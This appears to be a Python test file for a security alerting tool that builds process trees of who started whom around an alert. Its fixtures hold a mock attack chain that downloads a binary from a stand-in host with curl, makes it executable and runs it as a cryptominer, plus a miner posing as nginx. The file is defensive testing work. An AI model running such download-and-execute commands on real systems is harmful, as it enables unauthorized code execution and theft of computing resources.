"""The execs around an alert are a tree of who started whom."""

from __future__ import annotations

import datetime as dt
import uuid

from hypothesis import given
from hypothesis import strategies as st

from drift.alerts.domain.process_tree import ProcessTree, TreeExec, process_tree, tree_exec

START = dt.datetime(2026, 11, 24, 8, 15, tzinfo=dt.UTC)


def ran(pid: int, second: float, command: str, *above: int, started: float | None = None, missed: int = 0) -> TreeExec:
    """An exec of a process that was forked half a second before, or at `started`; parents by their pids."""
    at = START + dt.timedelta(seconds=second)
    forked = START + dt.timedelta(seconds=second - 0.5 if started is None else started)
    return TreeExec(
        exec_id=uuid.UUID(int=int(pid * 1_000_000 + second * 1_000)),
        at=at,
        pid=pid,
        command=command,
        started_at=forked.isoformat(),
        parent_name="sh",
        above=tuple((each, None) for each in above),
        missed=missed,
    )


def shown(tree: ProcessTree) -> list[str]:
    return [f"{'  ' * line.depth}{line.ran.command}" for line in tree.lines]


def test_a_shell_that_downloads_and_runs_a_miner_is_shown_as_such() -> None:
    shell, curl = ran(10, 1, "sh -c …", 5), ran(11, 2, "curl -o /tmp/m http://x/m", 10)
    chmod, miner = ran(12, 3, "chmod +x /tmp/m", 10), ran(13, 4, "/tmp/m -o pool", 10)
    after = ran(14, 9, "nproc", 13)
    tree = process_tree([after, miner, chmod, curl, shell], miner)
    assert shown(tree) == [
        "sh -c …",
        "  curl -o /tmp/m http://x/m",
        "  chmod +x /tmp/m",
        "  /tmp/m -o pool",
        "    nproc",
    ]
    assert [line.ran.command for line in tree.lines if line.is_alert] == ["/tmp/m -o pool"]
    assert [line.ran.command for line in tree.lines if line.is_related] == ["sh -c …", "/tmp/m -o pool", "nproc"]
    assert tree.lines[0].relation == "started by sh, process 5, whose start is not recorded"


def test_a_process_that_only_forked_is_bridged() -> None:
    """A subshell in brackets executes nothing itself."""
    shell, inner = ran(10, 1, "sh", 5), ran(12, 2, "curl", 11, 10, 5)
    tree = process_tree([shell, inner], inner)
    assert shown(tree) == ["sh", "  curl"]
    assert tree.lines[1].relation == "started by process 10, through a process that executed nothing"


def test_a_shell_that_replaces_itself_is_above_what_it_became() -> None:
    shell, miner = ran(10, 1, "sh -c exec ./m", 5), ran(10, 2, "./m", 5, started=0.5)
    tree = process_tree([shell, miner], miner)
    assert shown(tree) == ["sh -c exec ./m", "  ./m"]
    assert tree.lines[1].relation == "then executed, in the same process"


def test_a_reused_pid_is_not_its_earlier_process() -> None:
    old = ran(10, 1, "cron", 1)
    new = ran(10, 60, "./m", 7)
    tree = process_tree([old, new], new)
    assert shown(tree) == ["./m"]
    assert [line.ran.command for line in tree.others] == ["cron"]


def test_a_child_comes_from_what_its_parent_was_when_it_forked() -> None:
    first, second = ran(10, 1, "sh", 5), ran(10, 5, "python", 5, started=0.5)
    early, late = ran(11, 3, "ls", 10), ran(12, 8, "id", 10)
    tree = process_tree([first, second, early, late], late)
    assert shown(tree) == ["sh", "  ls", "  python", "    id"]


def test_what_ran_beside_it_is_apart() -> None:
    probe, miner = ran(20, 1, "healthcheck", 3), ran(30, 2, "./m", 4)
    tree = process_tree([probe, miner], miner)
    assert shown(tree) == ["./m"]
    assert [line.ran.command for line in tree.others] == ["healthcheck"]


def test_an_alert_whose_exec_was_not_reported_is_in_its_place() -> None:
    shell, miner = ran(10, 1, "sh", 5), ran(11, 2, "./m", 10)
    tree = process_tree([shell], miner)
    assert shown(tree) == ["sh", "  ./m"]
    assert tree.lines[1].is_alert


def test_a_summary_s_exec_is_found_by_process_and_time() -> None:
    reported = ran(11, 2, "./m --full", 10)
    alert = ran(11, 2.2, "./m", 10)
    tree = process_tree([reported], alert)
    assert shown(tree) == ["./m --full"]
    assert tree.lines[0].is_alert


def test_missing_execs_are_counted() -> None:
    tree = process_tree([ran(10, 1, "sh", 5, missed=4), ran(11, 2, "ls", 10)], ran(11, 2, "ls", 10))
    assert (tree.missed, tree.lines[0].ran.missed) == (4, 4)


def test_the_file_is_named_where_the_command_line_begins_otherwise() -> None:
    """A miner may call itself nginx."""
    lying = tree_exec(uuid.uuid4(), START, {"pid": 1, "path": "/tmp/m", "argv": ["nginx: worker process"]})
    assert lying.path == "/tmp/m"
    assert tree_exec(uuid.uuid4(), START, {"pid": 1, "path": "/bin/sh", "argv": ["/bin/sh"]}).path == ""
    cut = {"pid": 1, "path": "/bin/s", "argv": ["sh"], "path_truncated": True}
    assert tree_exec(uuid.uuid4(), START, cut).path == "/bin/s…"


def test_a_command_line_that_is_cut_or_missing_says_so() -> None:
    detail = {"pid": 1, "path": "/bin/sh", "argv": ["sh", "a b"], "argv_truncated": True}
    assert tree_exec(uuid.uuid4(), START, detail).command == "sh 'a b' …"
    assert tree_exec(uuid.uuid4(), START, {"pid": 1, "path": "/bin/sh"}).command == "/bin/sh"


@given(
    st.lists(
        st.tuples(st.integers(1, 6), st.integers(0, 9), st.integers(-3, 9), st.lists(st.integers(1, 6), max_size=4)),
        min_size=1,
        max_size=40,
    ),
    st.integers(0, 39),
)
def test_whatever_is_reported_each_exec_is_shown_once_and_nothing_hangs(
    given_execs: list[tuple[int, int, int, list[int]]], own: int
) -> None:
    """Pids that repeat, parents of themselves, children before their parents: a sensor may be stolen."""
    execs = [
        TreeExec(
            exec_id=uuid.UUID(int=number),
            at=START + dt.timedelta(seconds=second),
            pid=pid,
            command=str(number),
            started_at=(START + dt.timedelta(seconds=started)).isoformat() if started >= 0 else None,
            above=tuple((each, None) for each in above),
        )
        for number, (pid, second, started, above) in enumerate(given_execs)
    ]
    tree = process_tree(execs, execs[own % len(execs)])
    lines = [*tree.lines, *tree.others]
    assert sorted(int(line.ran.command) for line in lines) == list(range(len(execs)))
    assert sum(line.is_alert for line in lines) == 1
    assert all(0 <= line.indent <= 8 for line in lines)


def test_a_chain_of_thousands_is_no_obstacle() -> None:
    chain = [ran(number, number, str(number), number - 1) for number in range(1, 3_000)]
    tree = process_tree(chain, chain[-1])
    assert tree.lines[-1].depth == 2_998
